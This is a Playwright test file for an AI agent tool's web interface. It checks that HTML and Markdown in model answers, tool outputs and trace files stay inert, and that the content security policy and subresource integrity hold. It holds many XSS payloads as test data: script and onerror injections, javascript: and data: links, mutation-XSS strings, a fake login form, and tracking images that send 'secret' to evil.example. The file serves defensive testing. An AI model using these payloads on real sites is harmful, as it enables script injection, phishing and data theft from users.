"""What models, tools, documents and users write cannot run on the page, or send something away."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from html import unescape
from typing import Any

import pytest

from loraloop import Agent, Tracer, tool
from loraloop.testing import ScriptedRuntime, answer, calls

pytestmark = pytest.mark.web
BREAKS = "document.title='broken'"
HTML = {
    "script": f"<script>{BREAKS}</script>",
    "image": f'<img src=x onerror="{BREAKS}">',
    "drawing": f'<svg onload="{BREAKS}"><a xlink:href="javascript:{BREAKS}"><text>x</text></a></svg>',
    "frame": f'<iframe srcdoc="<script>parent.{BREAKS}</script>" src="https://evil.example"></iframe>',
    "form": '<form action="https://evil.example"><input name="key" autofocus><button>Log in</button></form>',
    "style": "<style>#waiting { display: none } body { background: url(https://evil.example/seen) }</style>",
    "refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example"><base href="https://evil.example">',
    "names": '<a id="log" name="agent"></a><p id="waiting" class="approval"><b>Approve</b></p>',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={BREAKS}&gt;',
    "comment": f"<!--><img src=x onerror={BREAKS}>-->",
}
LINKS = {
    "javascript": f"[press me](javascript:{BREAKS})",
    "spelled otherwise": f"[press me](  JaVaScRiPt&colon;{BREAKS} )\n\n[a]: java\tscript:{BREAKS}\n\n[press][a]",
    "in brackets": f"<javascript:{BREAKS}> <vbscript:x>",
    "data": f"[press me](data:text/html,<script>{BREAKS}</script>)",
    "other programs": "[press me](vscode://file/etc/passwd) [and me](ms-word:ofe|u|https://evil.example/a) [and me](file:///etc/passwd)",
    "the server itself": "[press me](/v1/runs) [and me](#load) [and me](//evil.example/x)",
    "image": "![seen](https://evil.example/seen.png?text=secret)",
    "image of a script": f"![seen](javascript:{BREAKS}) ![seen](data:image/svg+xml,<svg/onload={BREAKS}>)",
    "reference": "![seen][pixel]\n\n[pixel]: https://evil.example/pixel.png",
    "attribute": f'[press me](https://evil.example/"onmouseover="{BREAKS} "title\\" onfocus=\\"{BREAKS}")',
    "language of code": f'```x"onmouseover="{BREAKS}"><img/src=x/onerror={BREAKS}>\ncode\n```',
    "code": f"```html\n<script>{BREAKS}</script><img src=x onerror={BREAKS}>\n```\n`<img src=x onerror={BREAKS}>`",
}
KNOWN = (
    "A ARTICLE B BLOCKQUOTE BR BUTTON CODE DD DETAILS DIV DL DT EM H3 H4 H5 H6 HR I LI METER OL P PRE S SPAN STRONG "
    "SUMMARY TABLE TBODY TD TH THEAD TR UL"
)
STRANGE = f"""(place) => [...place.querySelectorAll('*')].flatMap((each) => [
    ...(each.closest('.icon') || '{KNOWN}'.split(' ').includes(each.tagName) ? [] : [each.tagName]),
    ...[...each.attributes].map((attribute) => attribute.name).filter((name) =>
        /^on|^(src|srcset|action|id|name|data|xlink:href)$/.test(name)),
    ...(/^(https?:|mailto:|null)/.test(each.getAttribute('href')) || each.closest('.icon') ? [] : ['href']),
])"""


def say(page: Any, text: str) -> None:
    page.fill("#input", text)
    page.click("#send")


@pytest.fixture
def guarded(open_page: Callable[..., Any]) -> Callable[..., Any]:
    """`open_page`, and nothing may leave for another address than the server's."""
    left: list[str] = []

    def make(*script: Any, **options: Any) -> Any:
        page = open_page(*script, **options)
        origin = page.url.rstrip("/")
        page.context.on("request", lambda each: each.url.startswith((origin, "data:")) or left.append(each.url))
        page.left = left
        return page

    return make


def check(page: Any, place: str) -> None:
    """Nothing of a text became more than text and plain formatting, and nothing ran or was asked for."""
    page.wait_for_timeout(50)
    assert page.locator(place).evaluate_all(f"(all) => all.flatMap({STRANGE})") == []
    assert page.title() == "loraloop" and not page.left
    assert page.locator("#waiting:empty").count() == 1 and page.locator("dialog[open]").count() == 0
    assert page.url.partition("#")[0].endswith("/") and len(page.context.pages) == 1


def answers(page: Any, count: int) -> Iterator[Any]:
    """The answers of a conversation in which each of them was said, one after the other."""
    for number in range(count):
        say(page, "Go on.")
        page.locator(".foot").nth(number).wait_for()
        check(page, ".turn:last-child")
        yield page.locator(".answer").nth(number)


def test_html_of_an_answer_stays_text(guarded: Callable[..., Any]) -> None:
    page = guarded(
        *(f"See **this**: {html}\n\n{html}\n\n- {html}\n\n| a |\n|--|\n| {html} |" for html in HTML.values())
    )
    for html, place in zip(HTML.values(), answers(page, len(HTML)), strict=True):
        assert place.locator("strong").inner_text() == "this", "it is read as Markdown"
        assert place.inner_text().count(unescape(html)) == 4, f"and nothing of it is left out: {html}"


def test_links_and_images_of_an_answer_do_nothing_by_themselves(guarded: Callable[..., Any]) -> None:
    page = guarded(*(f"**Here:** {text}" for text in LINKS.values()))
    led = 0
    for place in answers(page, len(LINKS)):
        for link in place.locator("a").all():
            link.hover()
            if link.get_attribute("href"):
                led += 1
                assert (link.get_attribute("target"), link.get_attribute("rel")) == ("_blank", "noopener noreferrer")
                assert "evil.example" in link.evaluate("(link) => link.nextSibling.textContent"), (
                    "it says where it leads"
                )
            else:
                link.click()
        for code in place.locator("pre").all():
            code.hover()
        check(page, ".turn:last-child")
    assert led >= 3


def test_where_a_link_leads_is_said_unless_its_text_is_the_address(guarded: Callable[..., Any]) -> None:
    texts = "[https://bank.example](https://evil.example/) <https://one.example/a> [m](mailto:a@two.example)"
    page = guarded(
        f"{texts} [https://bank.example@evil.example/](https://bank.example@evil.example/) https://пример.example",
        tools=(),
    )
    say(page, "Hi")
    page.wait_for_selector(".foot")
    hosts = page.locator(".host").all_inner_texts()
    assert hosts == [" (evil.example)", " (a@two.example)", " (evil.example)", " (xn--e1afmkfd.example)"]


def test_what_is_no_address_stays_text(guarded: Callable[..., Any]) -> None:
    texts = "see [this](https://[bad) and <http://256.1.1.1/> or [that](http://), not http://1.2.3.4.5"
    page = guarded(f"{texts} but [here](https://good.example)", tools=())
    say(page, "Hi")
    page.wait_for_selector(".foot")
    assert page.locator(".answer").inner_text() == f"{texts} but here (good.example)"
    assert page.locator(".answer a").count() == 1


def test_what_is_no_answer_is_text_everywhere(guarded: Callable[..., Any], tmp_path: Any) -> None:
    """Requests, arguments, results, errors, receipts, passages, refused edits; live, in the list, and from a file."""
    bad = "".join(HTML.values()) + f"**bold** [press me](javascript:{BREAKS})"
    short = f"{HTML['image']}{HTML['script']}**bold**"

    @tool(requires_approval=True)
    def find(word: str) -> str:
        """Finds a word."""
        return bad

    @tool
    def broken(word: str) -> str:
        """Is broken."""
        raise OSError(bad)

    passages = [{"source": bad, "title": bad, "text": f"Ann {bad}"}]
    script = calls(("find", {"word": short}), ("broken", {"word": short})), answer("Ann.", ["p1"])
    page = guarded(*script, tools=[find, broken], passages=passages)
    say(page, bad)
    page.wait_for_selector(".approval")
    page.wait_for_selector("#waiting button")
    assert page.locator("#waiting *:not(.icon, .icon *, strong, button)").count() == 0
    page.click(".approval .main")
    page.wait_for_selector(".foot")
    for summary in page.locator("#log summary").all():
        summary.evaluate("(summary) => (summary.parentElement.open = true)")
    page.wait_for_selector("#waiting:empty", state="attached")
    check(page, ".turn")
    for place in (".said", ".call > div pre", ".call > pre", ".receipt p", ".cited p"):
        assert "<script>" in page.locator(place).first.inner_text() and page.locator(f"{place} strong").count() == 0, (
            place
        )
    page.click("nav a:has-text('Runs')")
    page.click("#run-list .prompt")
    page.wait_for_selector("#run-view .foot")
    check(page, "#run-view > *")
    tracer = Tracer(tmp_path / "trace.json")
    Agent(ScriptedRuntime(calls(broken={"word": short}), bad), [broken], hooks=[tracer]).run_sync(bad)
    page.set_input_files("#file", str(tmp_path / "trace.json"))
    page.wait_for_selector("#run-view .call:has-text('broken')", state="attached")
    check(page, "#run-view > *")
    wrong = tmp_path / "wrong.json"
    wrong.write_text(json.dumps({"schema": bad}))
    page.set_input_files("#file", str(wrong))
    page.wait_for_selector("#run-view .error:has-text('is no trace')")
    check(page, "#run-view > *")


def test_the_sanitiser_holds_where_the_markdown_library_does_not(guarded: Callable[..., Any]) -> None:
    page = guarded("x")
    show = """async (html) => {
        const { showMarkdown } = await import('/elements.js');
        let reader = Object.getPrototypeOf(markdownit());
        reader.render = () => html;
        const place = document.createElement('div');
        document.getElementById('log').append(place);
        showMarkdown(place, 'x');
        return place.innerHTML;
    }"""
    assert page.evaluate(show, "<p>a <strong>b</strong></p>") == "<p>a <strong>b</strong></p>"
    for html in (*HTML.values(), f'<a href="javascript:{BREAKS}" onclick="{BREAKS}">x</a><a href="vscode://x">y</a>'):
        page.evaluate(show, f"<p>{html}</p>")
        check(page, "#log > div")


def test_the_browser_refuses_what_no_guard_saw(guarded: Callable[..., Any]) -> None:
    """The policy: no scripts but the page's own files, no markup from texts, nothing of other addresses."""
    page = guarded("x")
    policy = page.evaluate("() => fetch('/').then((answer) => answer.headers.get('content-security-policy'))")
    assert "script-src 'self'" in policy and "unsafe" not in policy and "img-src data:;" in policy
    for sink in ("document.body.innerHTML = '<b>x</b>'", f"document.createElement('script').text = \"{BREAKS}\""):
        with pytest.raises(Exception, match=r"TrustedHTML|TrustedScript"):
            page.evaluate(f"() => {{ {sink}; }}")
    refused = """(act) => new Promise((done) => {
        document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), { once: true });
        const url = 'https://evil.example/a';
        const make = (tag, given) => document.body.append(Object.assign(document.createElement(tag), given));
        ({ image: () => make('img', { src: url }), frame: () => make('iframe', { src: url }),
           style: () => make('style', { textContent: 'p { color: red }' }), base: () => make('base', { href: url }),
           request: () => fetch(url).catch(() => {}) })[act]();
    })"""
    acts = {name: page.evaluate(refused, name) for name in ("image", "frame", "style", "base", "request")}
    assert acts == {
        "image": "img-src",
        "frame": "frame-src",
        "style": "style-src-elem",
        "base": "base-uri",
        "request": "connect-src",
    }


def test_a_library_that_was_changed_does_not_run(guarded: Callable[..., Any], browser: Any) -> None:
    url = guarded("x").url
    with browser.new_context() as context:
        page = context.new_page()
        errors: list[str] = []
        page.on("console", lambda message: errors.append(message.text))
        page.route("**/vendor/*", lambda route: route.fulfill(
            body=f"{route.fetch().text()};{BREAKS}", content_type="text/javascript"))  # fmt: skip
        page.goto(url)
        assert page.title() == "loraloop" and sum("integrity" in error for error in errors) == 3, errors
